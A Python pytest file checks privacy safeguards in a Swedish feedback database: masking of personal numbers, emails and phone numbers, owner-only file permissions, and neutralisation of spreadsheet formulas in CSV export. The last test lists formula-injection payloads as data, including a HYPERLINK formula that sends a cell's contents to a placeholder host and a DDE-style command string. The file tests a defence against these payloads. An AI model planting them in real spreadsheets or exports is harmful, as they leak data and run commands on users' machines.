"""Feedback privacy on real SQLite files: personal data masked before it is stored, the database and its
-wal/-shm files readable by the owner only, and a CSV export that no spreadsheet runs as formulas."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import stat
from pathlib import Path

import pytest

os.environ.setdefault("GRADIO_ANALYTICS_ENABLED", "False")

from ui.feedback import FeedbackEntry, FeedbackStore

PERSONAL = [
    "850709-9805", "850709+9805", "8507099805", "19850709-9805", "198507099805",  # personnummer
    "850769-9805", "19850769-9805",  # samordningsnummer (day + 60)
    "anna.svensson@kommun.se", "Per-Erik_o+feedback@förening.example.org",
    "070-123 45 67", "0701234567", "08-123 456 78", "031-12 34 56", "+46 70 123 45 67", "0046 8 123 45 67",
    "+46 (0)31 12 34 56", "08/123 45 67",
]
KEPT = [  # numbers in questions that are not personal data
    "700 000 kronor", "2022-02-01", "SFS 2016:1145", "4 kap. 18 § LOU", "556012-5790",  # organisationsnummer
    "10 procent", "år 2019-2023", "01-01-2023", "kl 08:30", "0,5 procent",
]


def _raw_rows(db: Path) -> list[tuple]:
    with sqlite3.connect(db) as conn:
        return conn.execute("SELECT comment, question, answer FROM feedback").fetchall()


@pytest.mark.parametrize("value", PERSONAL)
def test_personal_data_is_masked_before_it_reaches_sqlite(tmp_path, value):
    store = FeedbackStore(tmp_path / "f.sqlite3")
    store.add(FeedbackEntry(
        rating="down", question=f"Jag har nummer {value}, vad gäller för mig?",
        answer="Underlaget svarar inte på det.", sources=[], mode="extractive",
        comment=f"Kontakta mig: {value}.",
    ))
    [(comment, question, _)] = _raw_rows(store.path)
    assert value not in question and value not in comment
    assert question.startswith("Jag har nummer [") and question.endswith("], vad gäller för mig?")
    assert comment.startswith("Kontakta mig: [")
    # nor anywhere in the file (all connections are closed: SQLite has moved the WAL into it)
    assert value.encode() not in store.path.read_bytes()


def test_masking_keeps_ordinary_numbers():
    from ui.privacy import mask

    text = "Gäller " + ", ".join(KEPT) + "?"
    assert mask(text) == text


def test_an_answer_repeating_the_question_is_masked_but_corpus_numbers_stay(tmp_path):
    store = FeedbackStore(tmp_path / "f.sqlite3")
    entry_id = store.add(FeedbackEntry(
        rating="up", question="Får 19850709-9805 arbeta hos ett socialt företag?",
        answer="Du frågade om 19850709-9805. Ring kommunens växel 0771-12 34 56 [1]", sources=[], mode="llm",
    ))
    [(_, question, answer)] = _raw_rows(store.path)
    assert question == "Får [personnummer] arbeta hos ett socialt företag?"
    assert answer == "Du frågade om [personnummer]. Ring kommunens växel 0771-12 34 56 [1]"
    store.update(entry_id, FeedbackEntry(rating="down", question="", answer="", sources=[], mode="llm",
                                         comment="Skriv till anna@kommun.se"))
    assert _raw_rows(store.path)[0][0] == "Skriv till [e-post]"


def test_chat_feedback_goes_through_the_masking(served, tmp_path):
    from assistant.pipeline import Assistant
    from ui.app import ChatApp

    settings = served.settings.with_(feedback_db=tmp_path / "chat.sqlite3")
    chat = ChatApp(Assistant(settings, served.assistant.embedder))
    question = "Jag heter Eva, 19850709-9805. Vem samordnar de regionala nätverken?"
    messages = [{"role": "user", "content": [{"type": "text", "text": question}]}]
    *_, (_, turns, _, _) = chat.answer(messages, [])
    chat.rate("down", "Ring mig på 070-123 45 67", turns)
    [(comment, stored_question, _)] = _raw_rows(settings.feedback_path)
    assert stored_question == "Jag heter Eva, [personnummer]. Vem samordnar de regionala nätverken?"
    assert comment == "Ring mig på [telefonnummer]"


def test_database_and_its_wal_and_shm_files_are_owner_only(tmp_path):
    old = os.umask(0o022)  # the usual umask: files would be world-readable
    try:
        db = tmp_path / "sub" / "feedback.sqlite3"
        store = FeedbackStore(db)
        store.all()  # creates the database
        reader = sqlite3.connect(db)  # an open reader keeps -wal and -shm in place
        try:
            reader.execute("SELECT count(*) FROM feedback").fetchone()
            store.add(FeedbackEntry(rating="up", question="Fråga?", answer="Svar.", sources=[], mode="extractive"))
            files = [db, db.with_name(db.name + "-wal"), db.with_name(db.name + "-shm")]
            assert all(f.exists() for f in files)
            assert {f.name: oct(stat.S_IMODE(f.stat().st_mode)) for f in files} == {f.name: "0o600" for f in files}
        finally:
            reader.close()
        out = store.export_csv(tmp_path / "export" / "omdomen.csv")
        assert oct(stat.S_IMODE(out.stat().st_mode)) == "0o600"
    finally:
        os.umask(old)


def test_an_existing_world_readable_database_is_narrowed(tmp_path):
    db = tmp_path / "gammal.sqlite3"
    FeedbackStore(db).add(FeedbackEntry(rating="up", question="F?", answer="S.", sources=[], mode="extractive"))
    os.chmod(db, 0o644)
    FeedbackStore(db).all()
    assert stat.S_IMODE(db.stat().st_mode) == 0o600


@pytest.mark.parametrize("payload", ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+cmd|' /C calc'!A0",
                                     "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"])
def test_csv_export_neutralises_formula_prefixes_in_every_cell(tmp_path, payload):
    store = FeedbackStore(tmp_path / "f.sqlite3")
    store.add(FeedbackEntry(rating="down", question=payload, answer=payload, comment=payload, mode=payload,
                            sources=[{"n": 1, "title": payload, "section": "", "source": "a.md"}]))
    rows = list(csv.reader(io.StringIO(store.to_csv())))
    assert len(rows) == 2
    cells = rows[1]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cells
    by_name = dict(zip(rows[0], cells, strict=True))
    for name in ("fråga", "svar", "läge"):
        assert by_name[name] == "'" + payload  # the text itself is kept, shown as text
    assert by_name["kommentar"] == "'" + payload.strip()  # comments are stored stripped
